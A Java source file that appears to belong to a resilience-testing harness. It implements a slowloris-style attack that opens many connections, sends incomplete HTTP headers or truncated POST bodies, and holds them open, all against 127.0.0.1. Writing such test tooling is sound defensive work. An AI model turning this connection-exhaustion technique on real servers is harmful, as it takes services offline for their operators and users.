// SPDX-License-Identifier: Apache-2.0
package dev.parley.trials.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/// Sends the beginning of many requests, then nothing, and holds the connections.
///
/// @param targets where to
/// @param from the attacker's addresses, taken in turn
/// @param connections at once
/// @param beginning what is sent of each request
/// @param holdSeconds how long they are held
record HalfRequests(
        List<URI> targets,
        List<InetAddress> from,
        int connections,
        String beginning,
        int holdSeconds)
        implements Attack {
    private static final int CONNECT_MILLIS = 2_000;

    /// A head that never ends.
    static HalfRequests heads(List<URI> targets, List<InetAddress> from, int connections) {
        return new HalfRequests(
                targets, from, connections, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Half: ", 20);
    }

    /// A body of a mebibyte that lacks its last bytes, without a key.
    static HalfRequests bodies(URI gateway, List<InetAddress> from, int connections) {
        return new HalfRequests(
                List.of(gateway),
                from,
                connections,
                "POST /rest/v1/messages HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n"
                        + " ".repeat(1_048_500),
                20);
    }

    @Override
    public void strike() throws InterruptedException {
        var bytes = beginning.getBytes(StandardCharsets.US_ASCII);
        var open = new ArrayList<Socket>();
        for (var i = 0; i < connections; i++) {
            try {
                open.add(begin(targets.get(i % targets.size()), from.get(i % from.size()), bytes));
            } catch (IOException _) {
                TimeUnit.MILLISECONDS.sleep(10); // refused or cut off: the next one is tried
            }
        }
        TimeUnit.SECONDS.sleep(holdSeconds);
        for (var socket : open) {
            try {
                socket.close();
            } catch (IOException _) {
                // it was cut off
            }
        }
    }

    private static Socket begin(URI target, InetAddress from, byte[] bytes) throws IOException {
        var socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(from, 0));
            socket.connect(
                    new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), target.getPort()),
                    CONNECT_MILLIS);
            socket.setSoTimeout(CONNECT_MILLIS);
            socket.getOutputStream().write(bytes);
            return socket;
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }
}
